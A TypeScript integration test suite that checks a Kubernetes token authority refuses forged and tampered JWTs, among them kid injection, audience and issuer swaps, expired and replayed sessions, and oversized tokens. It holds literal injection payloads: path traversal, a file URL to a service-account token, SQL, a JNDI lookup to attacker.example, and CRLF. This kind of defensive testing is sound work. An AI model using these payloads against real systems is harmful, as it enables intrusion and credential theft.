/**
 * Token attacks against the real authority and the real kube-apiserver (issue 10, part 4): the
 * attacks of the list that attest.int.test.ts, credentials.int.test.ts and session.test.ts do not
 * already cover. Every refusal must be an OAuth error body saying which check failed.
 *
 * Already covered elsewhere (not repeated): alg none, HS256 keyed with the API server's public
 * key, unknown kid, expired projected token, a token for another audience, a token of a deleted
 * or replaced pod, a token claiming another agent (attest.int.test.ts); a session of a deleted pod
 * (credentials.int.test.ts); all session-token checks as unit tests (session.test.ts); property
 * versions in token-attacks.fuzz.test.ts.
 *
 * New here: kid injection on projected and session tokens (a session one signed with the real
 * signing key read from its Secret), audience and issuer swaps on real projected tokens, a
 * forged "projected" token from a self-made issuer, a session replayed after its pod was
 * replaced, an expired session signed with the real key, and oversized tokens.
 */
import { generateKeyPairSync, sign } from 'node:crypto';
import { CoreV1Api, type V1Pod } from '@kubernetes/client-node';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshNamespace, kubeConfig } from '../e2e/harness/index.js';
import { MemoryAuditSink } from './audit.js';
import {
  GRANT_TOKEN_EXCHANGE,
  SESSION_TOKEN_TYP,
  SIGNING_KEYS_SECRET,
  SIGNING_KEYS_SECRET_KEY,
  TOKEN_TYPE_ACCESS_TOKEN,
  TOKEN_TYPE_JWT,
} from './constants.js';
import { type Authority, createAuthority } from './index.js';
import {
  createAgentIdentity,
  createPod,
  createServiceAccount,
  deletePod,
  type Fixture,
  fixture,
  form,
  type HttpResult,
  httpCall,
  projectedToken,
  TEST_BROKER_IMAGE,
} from './int-fixtures.js';
import { signJwt } from './jwt.js';
import { type LoadedKey, loadKey, parseKeyRing, signingKeyOf } from './keys.js';

const ISSUER = 'https://warden-authority.attacks.test';
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
const decode = (part: string) =>
  JSON.parse(Buffer.from(part, 'base64url').toString()) as Record<string, unknown>;

let f: Fixture;
let authority: Authority;
let base: string;
const audit = new MemoryAuditSink();
let pod: V1Pod;
let token: string;
let signingKey: LoadedKey;

const exchange = (subjectToken: string, type = TOKEN_TYPE_JWT) =>
  httpCall(`${base}/v1/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: form({ grant_type: GRANT_TOKEN_EXCHANGE, subject_token: subjectToken, subject_token_type: type }),
  });

const credentials = (session: string) =>
  httpCall(`${base}/v1/credentials`, {
    method: 'POST',
    headers: { authorization: `Bearer ${session}`, 'content-type': 'application/json' },
    body: JSON.stringify({ target: 'jira', tool: 'jira.get_issue' }),
  });

/** A refusal: the status, an OAuth body with the code, a description naming the check, and its audit event. */
function refused(res: HttpResult, status: number, error: string, message: string | RegExp): void {
  expect(res.status).toBe(status);
  expect(res.headers['content-type']).toBe('application/json');
  expect(res.body.error).toBe(error);
  if (typeof message === 'string') expect(res.body.error_description).toContain(message);
  else expect(res.body.error_description).toMatch(message);
  expect(audit.events.at(-1)).toMatchObject({ decision: 'Deny', error });
}

/** The real payload and signature of the projected token under a different header. */
function withHeader(t: string, header: Record<string, unknown>): string {
  const [, payload, signature] = t.split('.');
  return `${b64(header)}.${payload}.${signature}`;
}

/** The real header and signature over a modified payload (so the signature no longer matches). */
function withClaims(t: string, changes: Record<string, unknown>): string {
  const [header, payload, signature] = t.split('.');
  return `${header}.${b64({ ...decode(payload!), ...changes })}.${signature}`;
}

const HOSTILE_KIDS: Array<[string, string]> = [
  ['path traversal', '../../../../etc/passwd'],
  ['a file URL', 'file:///var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['SQL', "' OR '1'='1' --"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI injection payload
  ['JNDI', '${jndi:ldap://attacker.example/x}'],
  ['CRLF', 'k\r\nX-Injected: 1'],
  ['very long (4 KiB)', 'k'.repeat(4096)],
];

beforeAll(async () => {
  const kc = kubeConfig();
  const namespace = await freshNamespace('token-attacks');
  f = fixture(kc, namespace, ISSUER);
  await createServiceAccount(f, 'bot-sa');
  await createAgentIdentity(f, 'support-bot', { serviceAccountName: 'bot-sa' });
  authority = await createAuthority({
    trustedBrokerImages: [TEST_BROKER_IMAGE],
    kubeConfig: kc,
    namespace,
    watchNamespace: namespace,
    issuer: ISSUER,
    audit,
    log: pino({ level: 'silent' }),
    // Every test here fails on purpose, from 127.0.0.1; keep them from being rate limited.
    rateLimit: { burst: 1000, refillPerSecond: 100, maxSources: 100 },
  });
  base = `http://127.0.0.1:${await authority.listen(0, '127.0.0.1')}`;
  pod = await createPod(f, 'bot-1', { serviceAccount: 'bot-sa', agent: 'support-bot' });
  token = await projectedToken(f, 'bot-sa', pod);
  // The attacker in these tests holds the real signing key: only the check under test can refuse.
  const secret = await kc
    .makeApiClient(CoreV1Api)
    .readNamespacedSecret({ namespace, name: SIGNING_KEYS_SECRET });
  const ring = parseKeyRing(Buffer.from(secret.data![SIGNING_KEYS_SECRET_KEY]!, 'base64').toString());
  signingKey = loadKey(signingKeyOf(ring, new Date())!);
});

afterAll(async () => {
  await authority?.close();
});

describe('projected service-account tokens', () => {
  it('the untouched token is accepted (so each refusal below is caused by its one change)', async () => {
    expect((await exchange(token)).status).toBe(200);
  });

  it.each(HOSTILE_KIDS)('kid injection (%s) is refused by the API server', async (_name, kid) => {
    const [header] = token.split('.');
    refused(
      await exchange(withHeader(token, { ...decode(header!), kid })),
      400,
      'invalid_grant',
      'rejected by the Kubernetes API server',
    );
  });

  it('a kid that makes the token oversized is refused before any TokenReview', async () => {
    const [header] = token.split('.');
    const huge = withHeader(token, { ...decode(header!), kid: 'k'.repeat(9000) });
    refused(await exchange(huge), 400, 'invalid_request', 'subject_token is longer than 8192 characters');
  });

  it('audience swap: a token for another service with aud edited to the broker audience', async () => {
    const other = await projectedToken(f, 'bot-sa', pod, 'https://vault.example.com');
    refused(
      await exchange(withClaims(other, { aud: ['warden.dev/broker'] })),
      400,
      'invalid_grant',
      'rejected by the Kubernetes API server',
    );
  });

  it('issuer swap: the real token with another iss', async () => {
    refused(
      await exchange(withClaims(token, { iss: 'https://evil.example.com' })),
      400,
      'invalid_grant',
      'rejected by the Kubernetes API server',
    );
  });

  it('issuer swap: a well-formed token from a self-made issuer with the real claims', async () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const claims = { ...decode(token.split('.')[1]!), iss: 'https://evil.example.com' };
    const input = `${b64({ alg: 'RS256', kid: 'evil-1' })}.${b64(claims)}`;
    const forged = `${input}.${sign('sha256', Buffer.from(input), privateKey).toString('base64url')}`;
    refused(await exchange(forged), 400, 'invalid_grant', 'rejected by the Kubernetes API server');
  });
});

describe('session tokens, attacked with the real signing key', () => {
  let session: string;
  let claims: Record<string, unknown>;

  beforeAll(async () => {
    const res = await exchange(token);
    expect(res.status).toBe(200);
    session = res.body.access_token as string;
    claims = decode(session.split('.')[1]!);
  });

  it('the untouched session refreshes', async () => {
    expect((await exchange(session, TOKEN_TYPE_ACCESS_TOKEN)).status).toBe(200);
  });

  it.each(HOSTILE_KIDS)(
    'kid injection (%s): refused on refresh and on /v1/credentials',
    async (_name, kid) => {
      const forged = signJwt({ ...signingKey, kid }, SESSION_TOKEN_TYP, claims);
      refused(
        await exchange(forged, TOKEN_TYPE_ACCESS_TOKEN),
        401,
        'invalid_token',
        'session token is signed with an unknown or retired key (kid)',
      );
      const res = await credentials(forged);
      refused(res, 401, 'invalid_token', 'unknown or retired key');
      expect(res.headers['www-authenticate']).toMatch(/^Bearer error="invalid_token"/);
      // The kid never reaches a response header (CRLF injection).
      expect(JSON.stringify(res.headers)).not.toContain('X-Injected');
    },
  );

  it('an expired session, signed with the real key, is refused', async () => {
    const now = Math.floor(Date.now() / 1000);
    const expired = signJwt(signingKey, SESSION_TOKEN_TYP, {
      ...claims,
      iat: now - 700,
      nbf: now - 700,
      exp: now - 60,
    });
    refused(await exchange(expired, TOKEN_TYPE_ACCESS_TOKEN), 401, 'invalid_token', 'session token expired');
    refused(await credentials(expired), 401, 'invalid_token', 'session token expired');
  });

  it('audience and issuer swaps, signed with the real key, are refused', async () => {
    const wrongAud = signJwt(signingKey, SESSION_TOKEN_TYP, { ...claims, aud: 'https://jira.example.com' });
    refused(await credentials(wrongAud), 401, 'invalid_token', '(aud)');
    const wrongIss = signJwt(signingKey, SESSION_TOKEN_TYP, { ...claims, iss: 'https://other-authority' });
    refused(await credentials(wrongIss), 401, 'invalid_token', '(iss)');
  });

  it('replay across pods: the session of a pod replaced by a same-named pod is refused', async () => {
    const a = await createPod(f, 'replayed', { serviceAccount: 'bot-sa', agent: 'support-bot' });
    const res = await exchange(await projectedToken(f, 'bot-sa', a));
    expect(res.status).toBe(200);
    const sessionOfA = res.body.access_token as string;
    await deletePod(f, 'replayed');
    await createPod(f, 'replayed', { serviceAccount: 'bot-sa', agent: 'support-bot' }); // pod B, new UID
    refused(
      await exchange(sessionOfA, TOKEN_TYPE_ACCESS_TOKEN),
      400,
      'invalid_grant',
      'a pod with the same name has a different UID',
    );
  });
});

describe('oversized tokens', () => {
  it('a 12 KiB bearer session: invalid_token with an OAuth body', async () => {
    const res = await credentials(`${'A'.repeat(6000)}.${'B'.repeat(6000)}.C`);
    refused(res, 401, 'invalid_token', 'malformed');
  });

  it('a bearer larger than the HTTP header limit: 431, connection closed, server unharmed', async () => {
    // Node's 16 KiB header limit answers before any handler runs; the authority's clientError
    // handler still gives an OAuth body, and the server keeps serving afterwards.
    const res = await credentials('A'.repeat(20 * 1024));
    expect(res.status).toBe(431);
    expect(res.body).toEqual({
      error: 'invalid_request',
      error_description: 'request headers exceed the 16 KiB limit',
    });
    expect((await exchange(token)).status).toBe(200);
  });
});
